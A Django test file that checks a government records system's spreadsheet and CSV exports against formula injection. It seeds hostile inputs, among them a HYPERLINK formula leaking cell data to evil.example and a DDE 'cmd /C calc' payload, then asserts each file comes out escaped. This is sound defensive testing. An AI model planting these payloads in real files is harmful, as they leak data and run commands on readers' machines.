"""Every .xlsx and .csv the project writes is safe to open.

Hostile text, typed by a citizen, an agency or a supervisor, goes through each export with
real rows; the file read back holds no formula and no text cell that starts like one, while
numbers and dates stay typed.
"""

import csv
import io
from datetime import date, datetime

from django.test import TestCase
from django.urls import reverse
from openpyxl import load_workbook

from audits.services.satisfaction import survey_create_default
from audits.services.satisfaction_answers import response_submit
from qms.agencies.roles import Role
from qms.lib.spreadsheets import FORMULA_STARTS, XlsxWriter, csv_lines
from qms.monitoring.selectors.reports import default_fields
from qms.monitoring.services import reports
from tests.helpers import (
    make_agency,
    make_document_type,
    make_effective_document,
    make_ministry,
    make_province,
    make_unit,
    make_user,
)

# What an attacker types: a live link that leaks the sheet, and each other opening.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
TODAY = date.today()


def assert_safe_xlsx(test: TestCase, content: bytes, *, expected: str) -> list:
    """Every cell of every sheet is no formula and no text starting like one; ``expected``
    (a hostile text) is there, neutralised. Returns every cell."""
    book = load_workbook(io.BytesIO(content), data_only=False)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    for cell in cells:
        test.assertNotEqual(cell.data_type, "f", f"{cell.coordinate}: {cell.value!r}")
        if isinstance(cell.value, str):
            test.assertFalse(cell.value.startswith(FORMULA_STARTS), repr(cell.value))
    test.assertIn("'" + expected, [cell.value for cell in cells if isinstance(cell.value, str)])
    return cells


def assert_safe_csv(test: TestCase, content: bytes, *, expected: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    for row in rows:
        for field in row:
            test.assertFalse(field.startswith(FORMULA_STARTS), repr(field))
    test.assertIn("'" + expected, [field for row in rows for field in row])
    return rows


def body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def numbers(cells) -> list:
    return [c.value for c in cells if isinstance(c.value, (int, float)) and c.data_type == "n"]


def dates(cells) -> list:
    return [c.value for c in cells if isinstance(c.value, datetime) and c.is_date]


class WriterTests(TestCase):
    def test_text_is_neutralised_and_numbers_and_dates_stay_typed(self):
        for write_only in (False, True):
            with self.subTest(write_only=write_only):
                book = XlsxWriter(write_only=write_only)
                sheet = book.sheet("Thử")
                sheet.append([*HOSTILE, 42, 1.5, date(2026, 2, 28), None, "Bình thường"])
                cells = assert_safe_xlsx(self, book.to_bytes(), expected=HYPERLINK)
                self.assertEqual(numbers(cells), [42, 1.5])
                self.assertEqual(dates(cells), [datetime(2026, 2, 28)])
                self.assertIn("Bình thường", [c.value for c in cells])

    def test_csv_fields_are_neutralised_and_numbers_kept(self):
        content = "".join(csv_lines([["a", "b"], [*HOSTILE, 42, date(2026, 2, 28)]]))
        rows = assert_safe_csv(self, content.encode(), expected=HYPERLINK)
        self.assertEqual(rows[1][-2:], ["42", "2026-02-28"])


class ExportTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.province = make_province(HOSTILE[1], code="tinh-doc")
        cls.agency = make_agency(HOSTILE[3], province=cls.province, code="cq-doc")
        unit = make_unit(cls.agency, HOSTILE[2])
        # Lan, ISO secretary of the agency; Minh, its leader; Hùng, a drafter whose name is hostile.
        cls.lan = make_user("Nguyễn Thị Lan", cls.agency, [Role.ISO_SECRETARY, Role.STAFF])
        cls.minh = make_user("Phạm Văn Minh", cls.agency, [Role.APPROVER])
        hung = make_user(HOSTILE[4], cls.agency, [Role.DRAFTER], unit=unit)
        mai = make_user("Lê Thị Mai", cls.agency, [Role.REVIEWER])
        # Tuấn, supervisor of the province; Hưng, the Ministry's supervisor.
        cls.tuan = make_user("Ngô Anh Tuấn", cls.province, [Role.SUPERVISOR])
        cls.hung_bo = make_user("Phạm Quang Hưng", make_ministry(), [Role.SUPERVISOR])
        make_document_type(cls.agency)
        cls.document = make_effective_document(
            cls.agency, drafter=hung, reviewer=mai, approver=cls.minh, title=HYPERLINK
        )
        # A citizen's anonymous comment.
        survey = survey_create_default(agency=cls.agency, by=cls.lan)
        questions = survey.questions.order_by("position")
        response_submit(survey=survey, values={q.pk: 4 for q in questions}, comment=HYPERLINK)
        # The agency's annual report, its text typed by the agency.
        template = reports.template_save(
            province=cls.province,
            by=cls.tuan,
            year=TODAY.year,
            title=HOSTILE[5],
            deadline=date(TODAY.year, 12, 31),
            fields=default_fields(),
        )
        cls.report = reports.report_start(template=template, agency=cls.agency, by=cls.lan)
        typed = {"text": HYPERLINK, "number": 15000000, "date": date(TODAY.year, 3, 1)}
        values = {f["key"]: typed[f["type"]] for f in template.fields}
        reports.report_save(report=cls.report, by=cls.lan, values=values)
        reports.report_submit(report=cls.report, by=cls.lan)

    def get(self, user, name: str, *args, **query) -> bytes:
        self.client.force_login(user)
        response = self.client.get(reverse(name, args=args), query)
        self.assertEqual(response.status_code, 200, name)
        return body(response)

    def test_the_satisfaction_export(self):
        cells = assert_safe_xlsx(
            self, self.get(self.lan, "audits:satisfaction-export"), expected=HYPERLINK
        )
        self.assertIn(4, numbers(cells))  # each answer's value
        self.assertTrue(dates(cells))  # the period and each answer's time

    def test_the_consolidated_annual_report(self):
        content = self.get(
            self.tuan, "monitoring:report-consolidated-xlsx", year=self.report.template.year
        )
        cells = assert_safe_xlsx(self, content, expected=HYPERLINK)
        self.assertIn(15000000, numbers(cells))
        self.assertIn(datetime(TODAY.year, 3, 1), dates(cells))

    def test_the_coverage_export(self):
        cells = assert_safe_xlsx(
            self, self.get(self.tuan, "monitoring:coverage-xlsx"), expected=HOSTILE[3]
        )
        self.assertIn(1, numbers(cells))  # one agency
        self.assertTrue(dates(cells))  # the day of the figures

    def test_the_national_export(self):
        cells = assert_safe_xlsx(
            self, self.get(self.hung_bo, "monitoring:national-xlsx"), expected=HOSTILE[1]
        )
        self.assertIn(1, numbers(cells))
        self.assertTrue(dates(cells))

    def test_the_audit_trail_exports(self):
        assert_safe_xlsx(self, self.get(self.lan, "trail-xlsx"), expected=HOSTILE[2])
        assert_safe_csv(self, self.get(self.lan, "trail-csv"), expected=HOSTILE[2])

    def test_the_history_exports(self):
        content = self.get(self.lan, "documents:document-history-csv", self.document.pk)
        assert_safe_csv(self, content, expected=HOSTILE[4])
        content = self.get(self.lan, "monitoring:report-history-csv", self.report.pk)
        assert_safe_csv(self, content, expected=HOSTILE[5].strip())  # titles are stripped

    def test_the_public_open_data(self):
        self.client.logout()
        for name, code in (("portal:agency-csv", "cq-doc"), ("portal:province-csv", "tinh-doc")):
            with self.subTest(name):
                response = self.client.get(reverse(name, args=[code]))
                self.assertEqual(response.status_code, 200)
                assert_safe_csv(self, body(response), expected=HYPERLINK)
